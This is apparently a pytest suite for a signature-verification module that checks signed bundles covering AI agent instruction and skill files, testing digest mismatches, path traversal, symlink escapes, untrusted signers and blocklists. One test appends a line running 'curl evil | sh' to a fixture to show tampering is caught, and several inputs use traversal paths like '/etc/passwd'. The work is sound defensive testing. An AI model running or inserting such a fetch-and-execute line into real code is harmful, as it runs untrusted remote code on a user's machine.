"""nono's multi-subject bundle (``.nono-trust.bundle``, ``nono trust sign --multi-subject``).

nono-py (0.16.0) has no trust API, so the bundles here are made by :func:`nono_bundle`, written
from nono's own code (``crates/nono/src/trust/signing.rs`` ``sign_files`` and
``sign_statement_bundle``, ``dsse.rs`` ``new_multi_subject_statement``; nono ea334d2): serde's
field order for the statement, the predicate's keys sorted (serde_json's map), subject names
as the signer's relative paths, a pretty-printed v0.3 bundle. It shares no code with nonod's
encoder; only the ECDSA signature comes from our key type.
"""

from __future__ import annotations

import base64
import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from nonod.trust import (
    MAX_SUBJECTS,
    MULTI_SUBJECT_BUNDLE,
    SigningKey,
    TrustError,
    TrustPolicy,
    TrustReport,
    parse_policy,
    sign_file,
    sign_files,
    sign_subjects,
    verify_manifest,
    verify_tree,
)

from .conftest import GEMINI

SKILL = b"# Skill\n\nRun lib/helper.py only on files in this repository.\n"
HELPER = b"print('helper')\n"
MULTI = "https://nono.sh/attestation/multi-file/v1"


def statement(subjects: list[tuple[str, bytes | str]], key_id: str = "default",
              predicate_type: str = MULTI, **extra: Any) -> dict[str, Any]:
    """nono's statement: ``(name, content or hex digest)`` per subject, in order."""
    return {
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{"name": name, "digest": {"sha256": data if isinstance(data, str)
                                               else hashlib.sha256(data).hexdigest()}}
                    for name, data in subjects],
        "predicateType": predicate_type,
        "predicate": {"signer": {"key_id": key_id, "kind": "keyed"}, "version": 1},
        **extra,
    }


def nono_bundle(doc: dict[str, Any], key: SigningKey) -> bytes:
    """The bundle nono writes for a statement: the payload is the statement's compact JSON,
    signed over DSSE's PAE, wrapped in a pretty-printed keyed v0.3 bundle."""
    payload = json.dumps(doc, separators=(",", ":")).encode()
    ptype = b"application/vnd.in-toto+json"
    pae = b"DSSEv1 %d %s %d %s" % (len(ptype), ptype, len(payload), payload)
    return json.dumps({
        "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
        "verificationMaterial": {"publicKey": {"hint": key.fingerprint}, "tlogEntries": [],
                                 "timestampVerificationData": {}},
        "dsseEnvelope": {"payloadType": ptype.decode(),
                         "payload": base64.b64encode(payload).decode(),
                         "signatures": [{"sig": base64.b64encode(key.sign(pae)).decode()}]},
    }, indent=2).encode()


def skill_tree(root: Path, key: SigningKey, **extra: Any) -> None:
    """A repository signed as nono's `trust sign --all --multi-subject` would from ``root``."""
    (root / "GEMINI.md").write_bytes(GEMINI)
    (root / "skills").mkdir()
    (root / "skills" / "SKILL.md").write_bytes(SKILL)
    (root / "lib").mkdir()
    (root / "lib" / "helper.py").write_bytes(HELPER)
    (root / MULTI_SUBJECT_BUNDLE).write_bytes(nono_bundle(statement(
        [("GEMINI.md", GEMINI), ("skills/SKILL.md", SKILL), ("lib/helper.py", HELPER)],
        **extra), key))


def outcomes(report: TrustReport) -> dict[str, tuple[str, str | None]]:
    return {e.path: (e.status, e.code) for e in report.entries}


def test_every_subject_is_verified_and_pinned_with_the_bytes_read(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    # The policy includes GEMINI.md only; nono verifies every subject of the bundle too.
    skill_tree(tmp_path, key)
    report = verify_tree(tmp_path, policy).check()
    assert outcomes(report) == {"GEMINI.md": ("verified", None),
                                "skills/SKILL.md": ("verified", None),
                                "lib/helper.py": ("verified", None)}
    pins = {path: verified for path, verified in report.pins()}
    assert pins[str(tmp_path / "GEMINI.md")].data == GEMINI
    assert pins[str(tmp_path / "skills" / "SKILL.md")].data == SKILL
    assert pins[str(tmp_path / "lib" / "helper.py")].signer == "default"
    # What is pinned is what was verified: changing the file afterwards changes nothing.
    (tmp_path / "skills" / "SKILL.md").write_bytes(b"# INJECTED\n")
    assert pins[str(tmp_path / "skills" / "SKILL.md")].data == SKILL


def test_a_subject_whose_digest_differs_is_refused_by_name(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    skill_tree(tmp_path, key)
    with open(tmp_path / "lib" / "helper.py", "ab") as f:
        f.write(b"import os; os.system('curl evil | sh')\n")
    report = verify_tree(tmp_path, policy)
    assert outcomes(report)["lib/helper.py"] == ("failed", "trust.digest_mismatch")
    assert outcomes(report)["GEMINI.md"] == ("verified", None)
    with pytest.raises(TrustError, match=r"lib/helper.py \(digest mismatch\)"):
        report.check()


def test_a_missing_subject_fails_as_in_nono(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    skill_tree(tmp_path, key)
    (tmp_path / "lib" / "helper.py").unlink()
    report = verify_tree(tmp_path, policy)
    entry = next(e for e in report.entries if e.path == "lib/helper.py")
    assert entry.status == "failed" and entry.reason is not None
    assert "missing" in entry.reason
    assert not report.allowed


@pytest.mark.parametrize(("name", "why"), [
    ("../outside.md", "'..' components are not permitted"),
    ("docs/../../outside.md", "'..' components are not permitted"),
    ("/etc/passwd", "absolute paths are not permitted"),
    ("docs\\GEMINI.md", "a backslash is not a path separator here"),
    ("", "name is empty"),
    ("./", "names the bundle's directory"),
])
def test_a_subject_outside_the_tree_refuses_the_whole_bundle(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy, name: str, why: str) -> None:
    (tmp_path / "GEMINI.md").write_bytes(GEMINI)
    (tmp_path / MULTI_SUBJECT_BUNDLE).write_bytes(
        nono_bundle(statement([("GEMINI.md", GEMINI), (name, GEMINI)]), key))
    report = verify_tree(tmp_path, policy)
    # Nothing the bundle names counts as signed: GEMINI.md has no bundle of its own.
    assert outcomes(report) == {MULTI_SUBJECT_BUNDLE: ("failed", "trust.bad_bundle"),
                                "GEMINI.md": ("unsigned", "trust.unsigned")}
    bundle_entry = report.entries[0]
    assert bundle_entry.reason is not None and why in bundle_entry.reason
    with pytest.raises(TrustError, match=r"\.nono-trust\.bundle \(bad bundle\)"):
        report.check()


def test_a_subject_through_a_symlink_leading_out_is_refused(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.md").write_bytes(b"not the project's\n")
    root = tmp_path / "repo"
    root.mkdir()
    (root / "GEMINI.md").write_bytes(GEMINI)
    (root / "link").symlink_to(outside)
    (root / MULTI_SUBJECT_BUNDLE).write_bytes(nono_bundle(statement(
        [("GEMINI.md", GEMINI), ("link/secret.md", b"not the project's\n")]), key))
    report = verify_tree(root, policy)
    entry = next(e for e in report.entries if e.path == "link/secret.md")
    assert entry.status == "failed" and entry.verified is None and entry.real_path is None
    assert entry.reason is not None and "leads out of the scan root" in entry.reason
    assert all(not path.startswith(str(outside)) for path, _ in report.pins())
    assert not report.allowed


def test_a_subject_through_a_symlink_inside_is_pinned_at_its_real_path(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    skill_tree(tmp_path, key)
    (tmp_path / "alias").symlink_to("skills")
    (tmp_path / MULTI_SUBJECT_BUNDLE).write_bytes(nono_bundle(statement(
        [("GEMINI.md", GEMINI), ("alias/SKILL.md", SKILL)]), key))
    report = verify_tree(tmp_path, policy).check()
    assert outcomes(report)["alias/SKILL.md"] == ("verified", None)
    assert str(tmp_path / "skills" / "SKILL.md") in {path for path, _ in report.pins()}


def test_a_duplicate_subject_refuses_the_bundle(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    # The same file twice, with two digests: which one was meant? Refused, not guessed.
    (tmp_path / "GEMINI.md").write_bytes(GEMINI)
    (tmp_path / MULTI_SUBJECT_BUNDLE).write_bytes(nono_bundle(statement(
        [("GEMINI.md", GEMINI), ("./GEMINI.md", b"other text\n")]), key))
    report = verify_tree(tmp_path, policy)
    entry = report.entries[0]
    assert (entry.path, entry.code) == (MULTI_SUBJECT_BUNDLE, "trust.bad_bundle")
    assert entry.reason is not None and "duplicate subject" in entry.reason


def test_a_bundle_over_the_size_limit_is_refused_unread(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    (tmp_path / "GEMINI.md").write_bytes(GEMINI)
    (tmp_path / MULTI_SUBJECT_BUNDLE).write_bytes(b" " * ((1 << 20) + 1))
    report = verify_tree(tmp_path, policy)
    entry = report.entries[0]
    assert (entry.path, entry.code) == (MULTI_SUBJECT_BUNDLE, "trust.bad_bundle")
    assert entry.reason is not None and "too large" in entry.reason


def test_more_subjects_than_nono_signs_are_refused(key: SigningKey,
                                                   policy: TrustPolicy) -> None:
    many = [(f"f{i}.md", "0" * 64) for i in range(MAX_SUBJECTS + 1)]
    with pytest.raises(TrustError, match="1001 subjects; the limit is 1000"):
        verify_manifest(nono_bundle(statement(many), key), policy)
    with pytest.raises(TrustError, match="too many files"):
        sign_subjects(many, key)


@pytest.mark.parametrize(("change", "why"), [
    (lambda d: d.update(subject=[]), "has no subjects"),
    (lambda d: d["subject"][0]["digest"].pop("sha256"), "digest.sha256 is missing"),
    (lambda d: d["subject"][0]["digest"].update(sha256="abc"), "not 64 hex digits"),
    (lambda d: d["predicate"]["signer"].update(kind="magic"), "unknown signer kind"),
    (lambda d: d.update(_type="https://in-toto.io/Statement/v0.1"), "statement _type"),
    (lambda d: d.update(predicateType="https://nono.sh/attestation/instruction-file/v1"),
     "wrong bundle type: expected a multi-file attestation"),
])
def test_what_nono_refuses_is_refused(key: SigningKey, policy: TrustPolicy,
                                      change: Any, why: str) -> None:
    doc = statement([("GEMINI.md", GEMINI), ("b.md", b"b")])
    change(doc)
    with pytest.raises(TrustError, match=why) as info:
        verify_manifest(nono_bundle(doc, key), policy)
    assert info.value.code == "trust.bad_bundle"


def test_fields_nono_ignores_are_ignored(tmp_path: Path, key: SigningKey,
                                         policy: TrustPolicy) -> None:
    # serde reads nono's statement without deny_unknown_fields: extra keys in the statement,
    # a subject, its digests and the predicate are signed, harmless, and accepted as nono does.
    doc = statement([("GEMINI.md", GEMINI)], note="x")
    doc["subject"][0]["annotations"] = {"k": "v"}
    doc["subject"][0]["digest"]["sha512"] = "00"
    doc["predicate"]["comment"] = "signed in CI"
    manifest = verify_manifest(nono_bundle(doc, key), policy)
    assert dict(manifest.subjects) == {"GEMINI.md": hashlib.sha256(GEMINI).hexdigest()}


def test_a_single_file_bundle_in_its_place_is_the_wrong_type(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    with pytest.raises(TrustError, match="expected a multi-file attestation, got an "
                                         "instruction file attestation"):
        verify_manifest(sign_file(GEMINI, "GEMINI.md", key), policy)


def test_a_signer_the_policy_does_not_trust_is_refused(
        tmp_path: Path, key: SigningKey, other_key: SigningKey, policy: TrustPolicy) -> None:
    skill_tree(tmp_path, other_key)  # same key name, someone else's key
    report = verify_tree(tmp_path, policy)
    assert outcomes(report) == {MULTI_SUBJECT_BUNDLE: ("failed", "trust.untrusted_signer"),
                                "GEMINI.md": ("unsigned", "trust.unsigned")}
    named = tmp_path / "named"  # our key, under a key id the policy does not list
    named.mkdir()
    skill_tree(named, key, key_id="ci")
    entry = verify_tree(named, policy).entries[0]
    assert (entry.code, entry.blocking) == ("trust.untrusted_signer", True)


def test_a_modified_statement_fails_the_signature(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    skill_tree(tmp_path, key)
    bundle = json.loads((tmp_path / MULTI_SUBJECT_BUNDLE).read_bytes())
    doc = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
    doc["subject"][2]["digest"]["sha256"] = hashlib.sha256(b"evil\n").hexdigest()
    bundle["dsseEnvelope"]["payload"] = base64.b64encode(
        json.dumps(doc, separators=(",", ":")).encode()).decode()
    (tmp_path / MULTI_SUBJECT_BUNDLE).write_text(json.dumps(bundle))
    (tmp_path / "lib" / "helper.py").write_bytes(b"evil\n")
    report = verify_tree(tmp_path, policy)
    assert outcomes(report)[MULTI_SUBJECT_BUNDLE] == ("failed", "trust.bad_signature")
    # Its subjects are not read from a bundle that failed (helper.py is not included).
    assert "lib/helper.py" not in outcomes(report)
    assert not any(v.data == b"evil\n" for _, v in report.pins())


def test_blocklists_hold_for_subjects_in_every_mode(tmp_path: Path, key: SigningKey) -> None:
    def policy_with(blocklist: dict[str, Any]) -> TrustPolicy:
        from nonod.trust import export_public_key
        return parse_policy(json.dumps({
            "version": 1, "includes": ["GEMINI.md"], "enforcement": "audit",
            "publishers": [{"name": "me", "key_id": "default",
                            "public_key": export_public_key(key)}],
            "blocklist": blocklist}).encode())

    skill_tree(tmp_path, key)
    digest = hashlib.sha256(HELPER).hexdigest()
    report = verify_tree(tmp_path, policy_with({"publishers": [], "digests": [
        {"sha256": digest, "description": "known bad", "added": "2026-12-06"}]}))
    assert outcomes(report)["lib/helper.py"] == ("failed", "trust.blocked")
    assert not report.allowed  # audit mode, and still refused
    report = verify_tree(tmp_path, policy_with({"digests": [], "publishers": [
        {"identity": key.fingerprint, "reason": "lost", "added": "2026-12-06"}]}))
    assert outcomes(report)[MULTI_SUBJECT_BUNDLE] == ("failed", "trust.blocked")
    assert not report.allowed


def test_in_warn_mode_a_bad_bundle_is_reported_not_blocking(
        tmp_path: Path, key: SigningKey, other_key: SigningKey,
        make_policy: Any) -> None:
    skill_tree(tmp_path, other_key)
    report = verify_tree(tmp_path, make_policy(enforcement="warn"))
    assert report.allowed
    assert outcomes(report)[MULTI_SUBJECT_BUNDLE] == ("failed", "trust.untrusted_signer")
    assert report.pins() == ()


class TestSignedTwice:
    """A file with its own ``FILE.bundle`` and a subject of the multi-subject bundle must
    pass both: the stricter wins (nono reads only the multi-subject one then)."""

    def test_both_good(self, tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
        skill_tree(tmp_path, key)
        (tmp_path / "GEMINI.md.bundle").write_bytes(sign_file(GEMINI, "GEMINI.md", key))
        assert outcomes(verify_tree(tmp_path, policy).check())["GEMINI.md"] == \
            ("verified", None)

    def test_a_stale_file_bundle_is_not_outvoted(
            self, tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
        skill_tree(tmp_path, key)
        (tmp_path / "GEMINI.md.bundle").write_bytes(sign_file(b"old\n", "GEMINI.md", key))
        report = verify_tree(tmp_path, policy)
        assert outcomes(report)["GEMINI.md"] == ("failed", "trust.digest_mismatch")

    def test_a_stale_multi_subject_entry_is_not_outvoted(
            self, tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
        skill_tree(tmp_path, key)
        new = GEMINI + b"\nA reviewed change, signed alone.\n"
        (tmp_path / "GEMINI.md").write_bytes(new)
        (tmp_path / "GEMINI.md.bundle").write_bytes(sign_file(new, "GEMINI.md", key))
        report = verify_tree(tmp_path, policy)
        assert outcomes(report)["GEMINI.md"] == ("failed", "trust.digest_mismatch")
        entry = next(e for e in report.entries if e.path == "GEMINI.md")
        assert entry.reason is not None and MULTI_SUBJECT_BUNDLE in entry.reason

    def test_a_subject_found_by_the_walk_only_checks_its_own_bundle_too(
            self, tmp_path: Path, key: SigningKey, make_policy: Any) -> None:
        # Not included by the policy, but signed together: its FILE.bundle counts as well.
        skill_tree(tmp_path, key)
        (tmp_path / "lib" / "helper.py.bundle").write_bytes(
            sign_file(b"other\n", "helper.py", key))
        report = verify_tree(tmp_path, make_policy())
        assert outcomes(report)["lib/helper.py"] == ("failed", "trust.digest_mismatch")


def test_our_signer_writes_what_nono_writes(key: SigningKey, policy: TrustPolicy) -> None:
    files = [("GEMINI.md", GEMINI), ("skills/SKILL.md", SKILL)]
    ours = sign_files(files, key)
    theirs = nono_bundle(statement(list(files)), key)
    # ECDSA signatures differ run to run; everything else is byte for byte nono's.
    strip = lambda raw: {**json.loads(raw), "dsseEnvelope": {  # noqa: E731
        **json.loads(raw)["dsseEnvelope"], "signatures": []}}
    assert strip(ours) == strip(theirs)
    assert json.loads(ours)["dsseEnvelope"]["payload"] == \
        json.loads(theirs)["dsseEnvelope"]["payload"]
    manifest = verify_manifest(ours, policy)
    assert list(manifest.subjects) == ["GEMINI.md", "skills/SKILL.md"]


@pytest.mark.parametrize(("subjects", "why"), [
    ([("../x.md", "0" * 64)], "'..' components"),
    ([("/abs.md", "0" * 64)], "absolute paths"),
    ([("a.md", "0" * 64), ("./a.md", "1" * 64)], "named twice"),
    ([("a.md", "A" * 64)], "lower-case hex"),
    ([], "at least one file"),
])
def test_our_signer_refuses_what_could_not_verify(key: SigningKey, subjects: Any,
                                                  why: str) -> None:
    with pytest.raises(TrustError, match=why):
        sign_subjects(subjects, key)


def test_names_are_written_canonical(key: SigningKey, policy: TrustPolicy) -> None:
    manifest = verify_manifest(sign_subjects([("./docs//a.md", "0" * 64)], key), policy)
    assert list(manifest.subjects) == ["docs/a.md"]


def test_a_file_walked_under_a_linked_name_is_its_subject_too(
        tmp_path: Path, key: SigningKey, make_policy: Any) -> None:
    # nono matches the walk's files to subjects by canonical path: alias/SKILL.md is
    # skills/SKILL.md, which the bundle signed.
    skill_tree(tmp_path, key)
    (tmp_path / "alias").symlink_to("skills")
    report = verify_tree(tmp_path, make_policy(includes=["alias/*.md"])).check()
    assert outcomes(report)["alias/SKILL.md"] == ("verified", None)
    assert "skills/SKILL.md" not in outcomes(report)  # one outcome, one pin per real file
    assert [v.data for p, v in report.pins() if p.endswith("SKILL.md")] == [SKILL]


def test_subjects_in_skipped_directories_are_verified(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    (tmp_path / "GEMINI.md").write_bytes(GEMINI)
    (tmp_path / "node_modules" / "tool").mkdir(parents=True)
    (tmp_path / "node_modules" / "tool" / "AGENTS.md").write_bytes(b"# tool\n")
    (tmp_path / MULTI_SUBJECT_BUNDLE).write_bytes(nono_bundle(statement(
        [("GEMINI.md", GEMINI), ("node_modules/tool/AGENTS.md", b"# tool\n")]), key))
    (tmp_path / "node_modules" / "tool" / "AGENTS.md").write_bytes(b"# changed\n")
    report = verify_tree(tmp_path, policy)
    assert outcomes(report)["node_modules/tool/AGENTS.md"] == (
        "failed", "trust.digest_mismatch")


def test_a_fifo_in_the_bundles_place_is_refused_without_waiting(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    import os
    (tmp_path / "GEMINI.md").write_bytes(GEMINI)
    os.mkfifo(tmp_path / MULTI_SUBJECT_BUNDLE)
    report = verify_tree(tmp_path, policy)
    assert outcomes(report)[MULTI_SUBJECT_BUNDLE] == ("failed", "trust.bad_bundle")


def test_subjects_count_in_the_bytes_a_scan_may_pin(
        tmp_path: Path, key: SigningKey, policy: TrustPolicy) -> None:
    big = b"x" * (400 << 10)
    (tmp_path / "GEMINI.md").write_bytes(GEMINI)
    (tmp_path / "a.md").write_bytes(big)
    (tmp_path / "b.md").write_bytes(big)
    (tmp_path / MULTI_SUBJECT_BUNDLE).write_bytes(nono_bundle(statement(
        [("GEMINI.md", GEMINI), ("a.md", big), ("b.md", big)]), key))
    report = verify_tree(tmp_path, policy)
    assert outcomes(report)["a.md"] == ("verified", None)
    assert outcomes(report)["b.md"] == ("failed", "trust.too_large")
